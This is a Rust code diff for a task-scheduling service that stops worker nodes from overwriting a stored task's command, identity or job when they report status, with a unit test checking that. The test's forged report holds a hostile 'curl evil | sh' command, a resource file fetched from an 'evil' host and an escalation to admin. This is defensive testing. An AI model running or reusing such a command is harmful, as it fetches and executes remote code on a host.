@@ -110,7 +110,7 @@ pub async fn complete(
     tx: &deadpool_postgres::Transaction<'_>,
     node: &NodeRef,
     id: AttemptId,
-    mut view: Value,
+    view: Value,
 ) -> Result<Completion, DbError> {
     let Some(a) = tx
         .query_opt(
@@ -128,7 +128,7 @@ pub async fn complete(
     }
     let Some(t) = tx
         .query_opt(
-            "SELECT job_id, id_key, requeue_count, system_retry_count FROM tasks
+            "SELECT job_id, id_key, requeue_count, system_retry_count, view FROM tasks
              WHERE seq = $1 AND current_attempt = $2 FOR UPDATE",
             &[&task_seq, &id],
         )
@@ -137,7 +137,7 @@ pub async fn complete(
         return Ok(Completion::Fenced);
     };
     let (job_id, key): (String, String) = (t.get(0), t.get(1));
-    node_view(&mut view, "completed", t.get(2), t.get(3));
+    let view = node_view(t.get(4), &view, "completed", t.get(2), t.get(3));
     let task: berth_proto::TaskView =
         serde_json::from_value(view.clone()).map_err(|source| DbError::Row {
             what: "completed task view",
@@ -169,11 +169,11 @@ pub async fn running(
     tx: &Transaction<'_>,
     node: &NodeRef,
     id: AttemptId,
-    mut view: Value,
+    view: Value,
 ) -> Result<bool, DbError> {
     let Some(t) = tx
         .query_opt(
-            "SELECT t.seq, t.requeue_count, t.system_retry_count, t.state
+            "SELECT t.seq, t.requeue_count, t.system_retry_count, t.state, t.view
              FROM tasks t JOIN attempts a ON a.task_seq = t.seq
              WHERE a.id = $1 AND a.pool_id = $2 AND a.node_id = $3 AND a.state = 'live'
                AND t.current_attempt = $1
@@ -184,7 +184,7 @@ pub async fn running(
     else {
         return Ok(false);
     };
-    node_view(&mut view, "running", t.get(1), t.get(2));
+    let view = node_view(t.get(4), &view, "running", t.get(1), t.get(2));
     tx.execute(
         "UPDATE tasks SET state = 'running', view = $2, last_modified = now() WHERE seq = $1",
         &[&t.get::<_, i64>(0), &view],
@@ -316,12 +316,34 @@ async fn give_back(tx: &Transaction<'_>, h: &Held) -> Result<(), DbError> {
 
 /// A node's task view as the service stores it: in `state`, with the service's own
 /// counters, without the node's private fields.
-fn node_view(view: &mut Value, state: &str, requeues: i32, lost: i32) {
+/// The task as stored, with what the node may say about its run: `executionInfo`,
+/// `nodeInfo` and `stateTransitionTime` from `reported`, nothing else. The task's spec,
+/// its id and its job stay the service's: a node cannot rewrite what the next attempt
+/// runs, nor name another job.
+fn node_view(stored: Value, reported: &Value, state: &str, requeues: i32, lost: i32) -> Value {
+    let mut view = stored;
     if let Some(o) = view.as_object_mut() {
+        for key in ["executionInfo", "nodeInfo"] {
+            match reported.get(key) {
+                Some(v) if v.is_object() => {
+                    o.insert(key.into(), v.clone());
+                }
+                _ => {
+                    o.remove(key);
+                }
+            }
+        }
+        if let Some(t) = reported
+            .get("stateTransitionTime")
+            .filter(|t| t.is_string())
+        {
+            o.insert("stateTransitionTime".into(), t.clone());
+        }
         o.remove("poolAttempt");
         o.insert("state".into(), Value::from(state));
     }
-    set_counters(view, requeues, lost);
+    set_counters(&mut view, requeues, lost);
+    view
 }
 
 /// A task view put back in the queue: active again, counters updated, no node.
@@ -373,16 +395,39 @@ mod tests {
 
     #[test]
     fn a_node_view_keeps_the_services_counters_and_drops_the_attempt() {
-        let mut v = json!({"id": "t", "state": "completed", "poolAttempt": 9,
-                           "executionInfo": {"retryCount": 1, "requeueCount": 5,
-                                             "systemRetryCount": 3}});
-        node_view(&mut v, "completed", 1, 0);
+        let stored = json!({"id": "t", "jobId": "j", "state": "preparing"});
+        let reported = json!({"id": "t", "state": "completed", "poolAttempt": 9,
+                              "executionInfo": {"retryCount": 1, "requeueCount": 5,
+                                                "systemRetryCount": 3}});
+        let v = node_view(stored.clone(), &reported, "completed", 1, 0);
         assert!(v.get("poolAttempt").is_none());
+        assert_eq!(v["executionInfo"]["retryCount"], 1);
         assert_eq!(v["executionInfo"]["requeueCount"], 1);
         assert!(v["executionInfo"].get("systemRetryCount").is_none());
-        let mut bare = json!({"id": "t"});
-        node_view(&mut bare, "running", 0, 1);
+        let bare = node_view(stored, &json!({"id": "t"}), "running", 0, 1);
         assert_eq!(bare["state"], "running");
         assert_eq!(bare["executionInfo"]["systemRetryCount"], 1);
+    }
+
+    /// A node reports on its run; it cannot rewrite what the task runs or which job it is
+    /// of (the next attempt, on another node, runs the stored spec).
+    #[test]
+    fn a_node_cannot_rewrite_the_task_nor_name_another_job() {
+        let stored = json!({"id": "t", "jobId": "j", "commandLine": "/bin/true",
+                            "userIdentity": {"autoUser": {"elevationLevel": "nonadmin"}},
+                            "state": "running"});
+        let forged = json!({"id": "x", "jobId": "victim", "commandLine": "curl evil | sh",
+                            "userIdentity": {"autoUser": {"elevationLevel": "admin"}},
+                            "resourceFiles": [{"httpUrl": "http://evil/x", "filePath": "x"}],
+                            "nodeInfo": {"poolId": "p", "nodeId": "n", "taskRootDirectory": "/r"},
+                            "executionInfo": {"retryCount": 0, "requeueCount": 0,
+                                              "result": "failure", "exitCode": 1}});
+        let v = node_view(stored.clone(), &forged, "completed", 0, 0);
+        for key in ["id", "jobId", "commandLine", "userIdentity"] {
+            assert_eq!(v[key], stored[key], "{key}");
+        }
+        assert!(v.get("resourceFiles").is_none());
+        assert_eq!(v["nodeInfo"]["nodeId"], "n");
+        assert_eq!(v["executionInfo"]["exitCode"], 1);
     }
 }
